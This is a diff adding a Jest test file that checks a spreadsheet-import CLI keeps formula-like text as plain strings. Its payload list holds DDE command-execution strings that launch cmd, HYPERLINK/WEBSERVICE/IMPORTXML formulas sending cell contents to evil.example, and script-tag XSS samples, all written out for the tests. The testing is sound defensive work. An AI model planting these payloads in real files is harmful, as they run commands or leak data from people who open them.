@@ -1,0 +1,147 @@
+/**
+ * Text that a spreadsheet would run if it were typed (formulas, DDE, hyperlinks, markup) comes in
+ * through the CLI from a text export, from the sheets of an .xlsx, and from a workbook's settings
+ * into a roll-up; each lands as the same text, never as a formula: no <f> element in the sheet's
+ * XML, a string value in ExcelJS.
+ */
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import ExcelJS from "exceljs";
+import JSZip from "jszip";
+import { run } from "../../src/cli/main";
+import { toBuffer } from "../../src/workbook/xlsx";
+import { buildWorkbook } from "../workbook/support/build";
+import { seed001PlanRows } from "../fixtures/seeds";
+
+jest.setTimeout(60_000);
+
+/** 24 payloads: formula starts (= + - @), DDE, functions that reach the network, markup. */
+const PAYLOADS = [
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "@SUM(1,1)",
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C notepad'!'A1'",
+  "-2+3+cmd|' /C calc'!A0",
+  "@cmd|'/c calc'!A0",
+  '=DDE("cmd";"/C calc";"!A0")',
+  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
+  '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
+  '=WEBSERVICE("http://evil.example/?"&A1)',
+  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+  '=INDIRECT("ITA_Settings!B2")',
+  "=+1",
+  "=-1",
+  "{=1+1}",
+  '="="&1',
+  "＝1+1",
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "=1+1 ;=cmd|'/C calc'!A0",
+  "'=1+1",
+  "=ลบ(1)",
+];
+/** Only in cells: a text export splits on tabs and line breaks. */
+const CELL_ONLY = ["\t=1+1", "\r=1+1", "\n@SUM(1)"];
+
+/**
+ * What a payload may become: the same text (trimmed), or for markup the importer's reading of an
+ * HTML fragment, which keeps the words and drops the tags: never a tag.
+ */
+function expectSafe(value: unknown, payload: string): void {
+  if (payload.startsWith("<")) {
+    expect([payload, typeof value === "string" ? /[<>]/.test(value) : value]).toEqual([
+      payload,
+      value === null ? null : false,
+    ]);
+    return;
+  }
+  expect([payload, typeof value === "string" ? value.trim() : value]).toEqual([payload, payload.trim()]);
+}
+
+let dir: string;
+beforeEach(() => {
+  dir = mkdtempSync(join(tmpdir(), "ita-injection-"));
+});
+afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+async function cli(...argv: string[]) {
+  let stderr = "";
+  const code = await run(argv, {
+    cwd: dir,
+    now: () => new Date("2026-11-22T03:00:00Z"),
+    stdout: () => undefined,
+    stderr: (t) => (stderr += t),
+    isTTY: false,
+  });
+  return { code, stderr };
+}
+
+/** Every formula element of every worksheet part: none may come from the payloads. */
+async function formulasIn(file: string, sheetName: string): Promise<string[]> {
+  const zip = await JSZip.loadAsync(readFileSync(join(dir, file)));
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.readFile(join(dir, file));
+  const index = wb.worksheets.findIndex((ws) => ws.name === sheetName);
+  const xml = await zip.file(`xl/worksheets/sheet${index + 1}.xml`)!.async("string");
+  return [...xml.matchAll(/<f[\s>][^<]*/g)].map((m) => m[0]);
+}
+
+async function column(file: string, sheet: string, col: string): Promise<unknown[]> {
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.readFile(join(dir, file));
+  const ws = wb.getWorksheet(sheet)!;
+  const values: unknown[] = [];
+  ws.getColumn(col).eachCell((cell, row) => {
+    if (row > 1) values.push(cell.formula ? { formula: cell.formula } : cell.value);
+  });
+  return values;
+}
+
+describe("formula-like text stays text through the CLI", () => {
+  it(`import of a text export: ${PAYLOADS.length} payloads as project names`, async () => {
+    const text = [
+      "ลำดับ\tรายการโครงการ\tมิติ\tงบประมาณ (บาท)",
+      ...PAYLOADS.map((p, i) => `${i + 1}\t${p}\t1\t100.00`),
+    ].join("\n");
+    writeFileSync(join(dir, "plan.txt"), text);
+    const result = await cli("import", "plan.txt", "-o", "ita.xlsx", "--year", "2567");
+    expect(result.code).toBeLessThan(2);
+    const names = await column("ita.xlsx", "ITA_Plan", "B");
+    expect(names).toHaveLength(PAYLOADS.length);
+    names.forEach((name, i) => expectSafe(name, PAYLOADS[i]!));
+    expect(await formulasIn("ita.xlsx", "ITA_Plan")).toEqual([]);
+  });
+
+  it(`import of an .xlsx someone pasted tables into: ${PAYLOADS.length + CELL_ONLY.length} payloads, tabs and line breaks too`, async () => {
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet("วาง");
+    ws.addRow(["ลำดับ", "รายการโครงการ", "มิติ", "งบประมาณ (บาท)"]);
+    const all = [...PAYLOADS, ...CELL_ONLY];
+    all.forEach((p, i) => ws.addRow([i + 1, p, 1, 100]));
+    await wb.xlsx.writeFile(join(dir, "pasted.xlsx"));
+    const result = await cli("import", "pasted.xlsx", "-o", "ita.xlsx", "--year", "2567");
+    expect(result.code).toBeLessThan(2);
+    const names = await column("ita.xlsx", "ITA_Plan", "B");
+    expect(names).toHaveLength(all.length);
+    names.forEach((name, i) => expectSafe(name, all[i]!));
+    expect(await formulasIn("ita.xlsx", "ITA_Plan")).toEqual([]);
+  });
+
+  it("batch copies an organisation's name into the roll-up as text", async () => {
+    const chosen = ["=cmd|' /C calc'!A0", "\t=1+1", '=HYPERLINK("http://evil.example","x")', "@SUM(1,1)"];
+    const files: string[] = [];
+    for (const [i, organisation] of chosen.entries()) {
+      const { workbook } = buildWorkbook({ organisation, plan: seed001PlanRows() });
+      writeFileSync(join(dir, `o${i}.xlsx`), await toBuffer(workbook));
+      files.push(`o${i}.xlsx`);
+    }
+    expect((await cli("batch", ...files, "-o", "roll.xlsx")).code).toBe(0);
+    const names = await column("roll.xlsx", "ITA_Batch", "B");
+    expect(names).toHaveLength(chosen.length);
+    names.forEach((name, i) => expectSafe(name, chosen[i]!));
+    expect(await formulasIn("roll.xlsx", "ITA_Batch")).toEqual([]);
+  });
+});
